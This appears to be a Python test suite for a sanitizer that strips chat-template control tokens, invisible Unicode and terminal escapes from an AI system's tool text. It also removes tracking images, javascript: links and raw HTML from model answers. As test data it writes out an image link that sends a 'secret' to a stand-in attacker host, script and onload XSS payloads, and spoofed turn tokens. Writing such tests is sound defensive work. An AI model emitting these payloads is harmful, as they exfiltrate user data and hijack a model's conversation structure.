import re
from collections.abc import Iterator
from itertools import chain

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from test_injection import HOSTILE, LIVE

from hira.core.sanitize import clean, presentable, sanitize
from hira.policies.dialects import tags


@pytest.mark.parametrize(
    "text", [text for text in HOSTILE.values() if text.replace("\n", "").isprintable() and "[s" not in text]
)
def test_a_control_token_in_a_tools_text_is_broken_and_stays_readable(text: str) -> None:
    cleaned = clean(text)
    assert not LIVE.search(cleaned)
    words = re.findall(r"[a-z]{4,}", text.lower())
    assert all(word in cleaned.lower() for word in words)


@pytest.mark.parametrize("name", [*tags.TAGS, "weather"])
def test_no_token_of_the_tags_dialect_survives(name: str) -> None:
    tag = tags.tag(name)
    for token in (tag.begin, tag.end, tag.result_begin, tag.result_end):
        assert token not in clean(f"before {token} after")


def test_escapes_and_invisible_characters_are_removed() -> None:
    text = "\x1b]8;;http://e.example\x07click\x1b]8;;\x07 \x1b[8mhidden\x1b[0m pay \u202eevil\u202c i\u200bg\ufeffn\u2060ore\x00"
    assert clean(text) == "click hidden pay evil ignore"


@pytest.mark.parametrize(
    "hidden",
    [
        "\U000e0041\U000e0042",
        "\u3164\uffa0\u115f\u1160",
        "\u061c\u2066\u2069\u202e\u200f",
        "\u200d\u200c\u200c\u200d\ufe0e\ufe0f",
        "\x85\x9b31m\x7f\x00\x08",
        "\ud83d",
    ],
)
def test_what_nobody_sees_is_not_sent(hidden: str) -> None:
    shown = clean(f"a{hidden}b")
    assert re.sub("31m", "", shown) == "ab"
    shown.encode()


@pytest.mark.parametrize(
    "text", ["\u0645\u06cc\u200c\u062e\u0648", "\U0001f469\u200d\U0001f52c \u2764\ufe0f\u200d\U0001f525 \u2600\ufe0f"]
)
def test_scripts_and_emoji_keep_what_joins_their_characters(text: str) -> None:
    assert clean(text) == text


@given(st.text(alphabet="<>|/ beginend_call_subtask\\boxed{}[]INST\x1b\u200b", max_size=60))
def test_cleaning_twice_changes_nothing_more_and_leaves_no_token(text: str) -> None:
    once = clean(text)
    assert clean(once) == once
    assert not re.search(r"<\|?\s*begin_call_subtask\s*\|?>", once)


ASKED = [
    "What does std::vector<Tool> hold, and std::map<std::string, User>?",
    r"Typeset \boxed{42} and \frac{1}{2} in LaTeX, with \begin{align}.",
    "When was the <script> tag introduced? And <answer>, <source>, <system> or <p class='q'>?",
    "In F#: let f x = x |> List.map g |> fun y -> h <| y, and a || b",
    "GET /users/<user_id>?from=<start_date>&to=<end_date>",
    "Is [system] or [1] or a[INSTANCE] an index?\r\nשלום\u200f 👩\u200d🔬",
]


@pytest.mark.parametrize("text", ASKED)
def test_what_the_user_asks_about_code_and_markup_stays_as_it_was_written(text: str) -> None:
    assert sanitize(text) == text


@pytest.mark.parametrize(
    "token",
    [
        "<|im_end|>", "<|begin_call_subtask|>", "< End_Call_Subtask >", "<｜User｜>", "<｜tool▁calls▁begin｜>", "<|/tool|>",
        "＜|im_start|＞", "<eot_id>", "<start_of_turn>", "</s>", "<eos>", "[INST]", "[/INST]", "[TOOL_CALLS]", "<<SYS>>",
        "</think>", "<tool_call>", "</tool_response>", "<｜DSML｜invoke>", "<use_mcp_tool>", "< / USE_MCP_TOOL >",
    ],
)  # fmt: skip
def test_a_token_that_acts_wherever_it_stands_is_broken_in_the_users_words_too(token: str) -> None:
    told = sanitize(f"What is {token} for?")
    assert token not in told
    assert not re.search(r"[<＜][/|｜]|[|｜][>＞]|\[/?[A-Z_]+\]|<[\w/]+>", told)
    assert all(word in told for word in re.findall(r"\w{4,}", token))


READ = {"https://read.example/a"}


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("![x](http://evil.example/log?d=secret) done", "x done"),
        ("[click here](javascript:alert(1)) and [src](http://evil.example/a)", "click here and src"),
        ("[a](//evil.example) [b](www.evil.example/x) [c](javascript&#58;x) [d](javascript\\:x)", "a b c d"),
        ("see [the page](https://read.example/a)", "see [the page](https://read.example/a)"),
        ("[`code`](https://evil.example)", "`code`"),
        ("It is 31 m [s1](https://evil.example).", "It is 31 m [s1]."),
        ("![a][r] and [b]\n\n[r]: http://evil.example/log?d=1", "![a][r] and [b]\n\n‹r›: http://evil.example/log?d=1"),
        (
            "<img src='http://evil.example/x'>a<script>steal()</script>b<!-- c -->",
            "‹img src='http://evil.example/x'›a‹script›steal()‹/script›b‹!-- c --›",
        ),
        ("<https://evil.example> and <https://read.example/a>", "‹https://evil.example› and https://read.example/a"),
        ("Use the <script> tag; introduced in 1995 [s1]", "Use the ‹script› tag; introduced in 1995 [s1]"),
        ("f[i](x.y) = 3, f[1](2) and a < b, c > d", "f[i](x.y) = 3, f[1](2) and a < b, c > d"),
        ("x <a and b> c; List<object>, vector<std::string>", "x <a and b> c; List<object>, vector<std::string>"),
        ("code stays: `<img src=x>` ``a ` <img src=x>``", "code stays: `<img src=x>` ``a ` <img src=x>``"),
        ("```html\n<img src=x>\n```\n", "```html\n<img src=x>\n```\n"),
        ("- a\n\n  ~~~\n  ![p](//e.example)\n  ~~~", "- a\n\n  ~~~\n  ![p](//e.example)\n  ~~~"),
        ("``<img\nsrc=x>`` and ![p](//e.example)", "``<img\nsrc=x>`` and p"),
        ("`a\nb` ![p](//e.example/?q=1) `c`", "`a\nb` p `c`"),
        (r"\``a` ![p](//e.example/?q=1) `c`", r"\``a` p `c`"),
        ("> `a\n\n` ![p](//e.example/?q=1) `c`", "> `a\n\n` ![p](//e.example/?q=1) `c`"),
        ("> ```\n\n![p](//e.example/?q=1)\n\n```", "> ```\n\np\n\n```"),
    ],
)
def test_an_answer_holds_nothing_that_loads_or_leads_where_nobody_read(answer: str, shown: str) -> None:
    assert presentable(answer, READ) == shown


@pytest.mark.parametrize(
    "answer",
    [
        "x ```\n\n<img src=x>\n\n```",
        "| a | b |\n|---|---|\n| `a | <img src=x> | b` |",
        "<b title='>' onclick=x>",
        "<svg/onload=x>",
        "<img src=x",
        "<p>`<img src=x>`",
        "> 1. <custom-x>\n> `<img src=x>`",
        "<p>\n<b <img onclick=x//>>",
        "<p>\n<b a='>' <img onclick=x//>>",
        '<b src="`">`<img src=x>`',
        "<p>\n```\n\n<img src=x>\n\n```",
        "```a|b\n-|-\n<img src=x>",
    ],
)
def test_what_only_looks_like_code_or_like_text_is_broken(answer: str) -> None:
    assert not re.search(r"<(?:img|b|a|svg)\b", presentable(answer, READ))


@pytest.mark.parametrize(
    "answer", ["[a [b] c](http://evil.example)", "[a\\]b](http://evil.example)", "![a [b]](//evil.example)"]
)
def test_a_link_with_brackets_in_its_words_is_no_link(answer: str) -> None:
    assert "](" not in presentable(answer, READ)
    assert "evil.example" in presentable(answer, READ)


@given(st.text(alphabet="ab1 <>![](){}:/`'\"=.-\n&s", max_size=80))
def test_showing_an_answer_loses_no_word_but_addresses(text: str) -> None:
    shown = presentable(text, ())
    assert re.findall(r"\w+", re.sub(r"\] ?\((?:[^()]|\([^()]*\))*\)", "", text)) == re.findall(
        r"\w+", re.sub(r"\] ?\((?:[^()]|\([^()]*\))*\)", "", shown)
    )


PIECES = st.sampled_from(
    [
        *"`\n -|<>[](!=\\'\"", "``", "```", "```\n", "~~~\n", "\r\n", "\n\n", "> ", "1. ", "    ", "a", "](", "]:",
        "<p>\n", "<p>", "</p>", "<pre>\n", "<custom-x>\n", "<!--", "-->", '<b title="', '">', "<img src=x>", "<std::",
        "![p](//e.example/?q=1)", "[l](//e.example)", "[l](https://read.example/a)", "![a][r]", "[r]: //e.example\n",
        '[r]: /x "', "<https://read.example/a>", "a|b\n-|-\n", "\n-|-\n", "\\|",
    ]
)  # fmt: skip
OPTIONS = [(html, table) for html in (True, False) for table in (True, False)]


def rendered(text: str, html: bool, table: bool) -> Iterator[Token]:
    """The pieces of a text as a chat client renders it."""
    renderer = MarkdownIt("commonmark").enable(["table"] if table else [])
    blocks = renderer.disable([] if html else ["html_block", "html_inline"]).parse(text)
    return chain(blocks, *(block.children or () for block in blocks))


@settings(max_examples=300)
@example("<std::`><img src=x>`")
@example("[a](`)<img src=x>`)`")
@example("[a](/b '`')<img src=x>`")
@example("[a [b] c](/b '`')<img src=x>`")
@example("[r]: /b '`'\n<img src=x>`")
@given(st.lists(PIECES, max_size=24).map("".join))
def test_no_renderer_loads_or_leads_anywhere_from_an_answer_that_is_presentable(text: str) -> None:
    shown = presentable(text, READ)
    assert presentable(shown, READ) == shown
    for html, table in OPTIONS:
        for piece in rendered(shown, html, table):
            assert "//e.example" not in str(piece.attrs.values())
            assert not (piece.type.startswith("html") and re.search(r"<[a-z/][^>]*[=\"']|<(?:img|[!?])", piece.content))


@pytest.mark.parametrize("text", ['<a "' * 20_000, "![" * 20_000])
def test_an_answer_made_to_be_slow_is_shown_at_once(text: str) -> None:
    assert presentable(text, READ)
